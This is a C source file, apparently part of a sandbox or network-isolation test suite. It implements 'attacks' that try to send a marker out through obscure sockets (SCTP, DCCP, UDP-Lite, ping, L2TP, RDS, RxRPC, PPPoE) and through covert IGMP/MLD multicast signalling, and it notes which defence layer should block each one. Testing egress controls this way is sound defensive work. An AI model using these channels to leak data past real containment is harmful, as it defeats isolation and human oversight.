// SPDX-License-Identifier: GPL-2.0-only
/* Sockets that hardly a program uses, most of which the kernel loads a module for on request. */
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/icmp6.h>
#include <netinet/ip_icmp.h>
#include <linux/dccp.h>
#include <linux/if_ether.h>
#include <linux/if_pppox.h>
#include <linux/l2tp.h>
#include <linux/rds.h>
#include <linux/rxrpc.h>
#include <string.h>

#include "send.h"

#ifndef IPPROTO_L2TP
#define IPPROTO_L2TP 115
#endif

#define SCTP_CONNECTX 110 /* SCTP_SOCKOPT_CONNECTX of linux/sctp.h, which clashes with libc */

static int sctp_connect(const struct attack_env *e)
{
	int fd = open_socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP);

	return done(connect_to(fd, target4(e)));
}

static int sctp_connect6(const struct attack_env *e)
{
	int fd = open_socket(AF_INET6, SOCK_STREAM, IPPROTO_SCTP);

	return done(connect_to(fd, target6(e)));
}

static int sctp_sendmsg(const struct attack_env *e)
{
	return send_mark(e, open_socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP), target4(e));
}

static int sctp_connectx(const struct attack_env *e)
{
	struct dest to = target4(e);
	int fd = open_socket(AF_INET, SOCK_SEQPACKET, IPPROTO_SCTP);

	return done(set_option(fd, IPPROTO_SCTP, SCTP_CONNECTX, &to.in, to.len));
}

static int dccp_socket(int family)
{
	int fd = open_socket(family, SOCK_DCCP, IPPROTO_DCCP);

	return set_int(fd, SOL_DCCP, DCCP_SOCKOPT_SERVICE, (int)htonl(1));
}

static int dccp4(const struct attack_env *e)
{
	return done(connect_to(dccp_socket(AF_INET), target4(e)));
}

static int dccp6(const struct attack_env *e)
{
	return done(connect_to(dccp_socket(AF_INET6), target6(e)));
}

static int udplite(const struct attack_env *e)
{
	return send_mark(e, open_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE), target4(e));
}

static int udplite_conn(const struct attack_env *e)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE);

	return send_connected(e, connect_to(fd, target4(e)));
}

static int udplite6(const struct attack_env *e)
{
	return send_mark(e, open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_UDPLITE), target6(e));
}

/* An echo request that carries the mark. */
static int send_echo(const struct attack_env *e, int fd, uint8_t type, struct dest to)
{
	struct icmphdr head = { .type = type };
	struct iovec parts[] = { { &head, sizeof(head) }, payload(e, 0) };
	struct msghdr m = {
		.msg_name = to.len ? &to.sa : NULL,
		.msg_namelen = to.len,
		.msg_iov = parts,
		.msg_iovlen = 2,
	};

	return send_message(e, fd, &m);
}

static int ping4(const struct attack_env *e)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);

	return send_echo(e, fd, ICMP_ECHO, dest4(e->target4, 0));
}

static int ping4_conn(const struct attack_env *e)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);

	fd = connect_to(fd, dest4(e->target4, 0));
	return send_echo(e, fd, ICMP_ECHO, (struct dest){ .len = 0 });
}

static int ping6(const struct attack_env *e)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6);

	return send_echo(e, fd, ICMP6_ECHO_REQUEST, dest6(e->target6, 0));
}

static int ping6_conn(const struct attack_env *e)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_ICMPV6);

	fd = connect_to(fd, dest6(e->target6, 0));
	return send_echo(e, fd, ICMP6_ECHO_REQUEST, (struct dest){ .len = 0 });
}

static int l2tp_ip(const struct attack_env *e)
{
	const struct sockaddr_l2tpip a = {
		.l2tp_family = AF_INET,
		.l2tp_addr = e->target4,
		.l2tp_conn_id = 1,
	};
	struct dest to = { .len = sizeof(a) };

	memcpy(to.raw, &a, sizeof(a));
	return send_mark(e, open_socket(AF_INET, SOCK_DGRAM, IPPROTO_L2TP), to);
}

static int l2tp_ip6(const struct attack_env *e)
{
	const struct sockaddr_l2tpip6 a = {
		.l2tp_family = AF_INET6,
		.l2tp_addr = e->target6,
		.l2tp_conn_id = 1,
	};
	struct dest to = { .len = sizeof(a) };

	memcpy(to.raw, &a, sizeof(a));
	return send_mark(e, open_socket(AF_INET6, SOCK_DGRAM, IPPROTO_L2TP), to);
}

/* RDS over TCP: a worker of the kernel connects, in no cgroup of ours. */
static int rds4(const struct attack_env *e)
{
	int fd = set_int(open_socket(AF_RDS, SOCK_SEQPACKET, 0), SOL_RDS, SO_RDS_TRANSPORT,
			 RDS_TRANS_TCP);
	struct dest to = target4(e);

	fd = bind_to(fd, dest4(e->own4, e->port));
	if (fd == -EADDRNOTAVAIL)
		return attack_skip("rds_tcp is not loaded");
	fd = step(fd, "sendto", sendto(fd, e->mark, e->mark_len, 0, &to.sa, to.len));
	return done(linger(fd));
}

/* RxRPC, for AFS: a socket of the kernel's own, over UDP, sends. */
static int rxrpc(const struct attack_env *e)
{
	struct sockaddr_rxrpc a = {
		.srx_family = AF_RXRPC,
		.srx_service = 1,
		.transport_type = SOCK_DGRAM,
		.transport_len = sizeof(struct sockaddr_in),
	};
	const unsigned long call = 1;
	struct dest to = target4(e);
	int fd = open_socket(AF_RXRPC, SOCK_DGRAM, PF_INET), tried;

	memcpy(&a.transport, &to.in, to.len);
	to.len = sizeof(a);
	memcpy(to.raw, &a, sizeof(a));
	tried = send_cmsg(e, fd, to, SOL_RXRPC, RXRPC_USER_CALL_ID, &call, sizeof(call));
	linger(fd);
	return tried;
}

/* PPPoE sessions need no discovery, and no capability: a frame of one's own to any MAC. */
static int pppoe(const struct attack_env *e)
{
	struct sockaddr_pppox a = {
		.sa_family = AF_PPPOX,
		.sa_protocol = PX_PROTO_OE,
		.sa_addr.pppoe.sid = htons(1),
	};
	struct dest to = { .len = sizeof(a) };
	int fd = open_socket(AF_PPPOX, SOCK_STREAM, PX_PROTO_OE);

	memcpy(a.sa_addr.pppoe.remote, e->rogue_mac, sizeof(e->rogue_mac));
	strcpy(a.sa_addr.pppoe.dev, e->dev);
	memcpy(to.raw, &a, sizeof(a));
	relay_begin(e);
	return relay_end(e, send_connected(e, connect_to(fd, to)));
}

static int hear_pppoe(const struct attack_env *e)
{
	return relay_marked(e, ETH_P_PPP_SES);
}

/* ---- joining a group: the kernel tells the link which; the group's number is the message */

static struct in_addr group4(const struct attack_env *e)
{
	return (struct in_addr){ htonl(0xef5a0000u | (ntohl(e->target4.s_addr) & 0xffff)) };
}

static struct in6_addr group6(const struct attack_env *e)
{
	struct in6_addr g = e->target6;

	g.s6_addr[0] = 0xff;
	g.s6_addr[1] = 5;
	return g;
}

static int join_igmp(const struct attack_env *e)
{
	const struct ip_mreqn join = {
		.imr_multiaddr = group4(e),
		.imr_ifindex = (int)if_nametoindex(e->dev),
	};
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	relay_begin(e);
	fd = set_option(fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof(join));
	return relay_end(e, done(fd));
}

static int hear_igmp(const struct attack_env *e)
{
	struct in_addr g = group4(e);

	return relay_frames(e, ETH_P_IP, (struct iovec){ &g, sizeof(g) });
}

static int join_mld(const struct attack_env *e)
{
	const struct ipv6_mreq join = {
		.ipv6mr_multiaddr = group6(e),
		.ipv6mr_interface = if_nametoindex(e->dev),
	};
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0);

	relay_begin(e);
	fd = set_option(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &join, sizeof(join));
	return relay_end(e, done(fd));
}

static int hear_mld(const struct attack_env *e)
{
	struct in6_addr g = group6(e);

	return relay_frames(e, ETH_P_IPV6, (struct iovec){ &g, sizeof(g) });
}

const struct attack attacks_odd[] = {
	{ "sctp_connect", "SCTP: connect", STOP_I1, NEEDS_NOTHING, .run = sctp_connect },
	{ "sctp_connect6", "SCTP over IPv6", STOP_I1, NEEDS_NOTHING, .run = sctp_connect6 },
	{ "sctp_sendmsg", "SCTP: a message makes the association", STOP_I1, NEEDS_NOTHING,
	  .run = sctp_sendmsg },
	{ "sctp_connectx", "SCTP: sctp_connectx, which is a socket option", STOP_I1, NEEDS_NOTHING,
	  .run = sctp_connectx },
	{ "dccp4", "DCCP", STOP_I1, NEEDS_NOTHING, .run = dccp4 },
	{ "dccp6", "DCCP over IPv6", STOP_I1, NEEDS_NOTHING, .run = dccp6 },
	{ "udplite", "UDP-Lite", STOP_I1, NEEDS_NOTHING, .run = udplite },
	{ "udplite_conn", "UDP-Lite, connected", STOP_I1, NEEDS_NOTHING, .run = udplite_conn },
	{ "udplite6", "UDP-Lite over IPv6", STOP_I1, NEEDS_NOTHING, .run = udplite6 },
	{ "ping4", "a ping socket's echo request", STOP_I1, NEEDS_NOTHING, .run = ping4 },
	{ "ping4_conn", "a connected ping socket", STOP_I1, NEEDS_NOTHING, .run = ping4_conn },
	{ "ping6", "a ping socket's echo request over IPv6", STOP_I1, NEEDS_NOTHING, .run = ping6 },
	{ "ping6_conn", "a connected ping socket over IPv6", STOP_I1, NEEDS_NOTHING,
	  .run = ping6_conn },
	{ "l2tp_ip", "L2TP's sockets over IP", STOP_I1, NEEDS_NOTHING, .run = l2tp_ip },
	{ "l2tp_ip6", "L2TP's sockets over IPv6", STOP_I1, NEEDS_NOTHING, .run = l2tp_ip6 },
	{ "rds4", "RDS over TCP: the kernel connects", STOP_LSM, NEEDS_NOTHING, .run = rds4 },
	{ "rxrpc", "RxRPC: the kernel sends UDP", STOP_LSM, NEEDS_NOTHING, .run = rxrpc },
	{ "pppoe", "a PPPoE session to the host's MAC", STOP_LSM, NEEDS_NOTHING, .run = pppoe,
	  .helper = hear_pppoe, .where = PLACE_ROGUE },
	{ "join_igmp", "the number of a multicast group, told to the link by IGMP", STOP_I3,
	  NEEDS_NOTHING, .run = join_igmp, .helper = hear_igmp, .where = PLACE_ROGUE },
	{ "join_mld", "the number of an IPv6 multicast group, told to the link by MLD", STOP_I3,
	  NEEDS_NOTHING, .run = join_mld, .helper = hear_mld, .where = PLACE_ROGUE },
	{ .name = NULL },
};
